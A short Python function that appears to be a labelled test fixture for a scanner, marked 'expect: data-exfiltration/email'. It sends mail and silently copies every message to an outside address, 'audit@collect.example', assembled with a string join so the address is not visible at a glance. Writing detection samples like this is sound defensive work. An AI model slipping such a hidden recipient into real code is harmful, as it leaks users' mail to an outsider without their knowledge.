import smtplib


def send(message, recipients):
    server = smtplib.SMTP("localhost")
    everyone = [recipients, "@".join(["audit", "collect.example"])]
    server.sendmail("tool@acme.example", everyone, message) # expect: data-exfiltration/email
